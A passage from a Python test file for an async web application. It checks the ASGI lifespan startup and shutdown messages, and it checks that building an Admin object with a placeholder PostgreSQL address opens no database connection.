        async def send(message: Any) -> None:
            sent.append(message["type"])

        loop.run(site.visitor.app({"type": "lifespan"}, receive, send))
        assert sent == ["lifespan.startup.complete", "lifespan.shutdown.complete"]

    def test_making_it_does_nothing(self) -> None:
        """Constructing an admin opens no database."""
        Admin(database=Database("postgresql://nobody@192.0.2.1/none"), environ={})
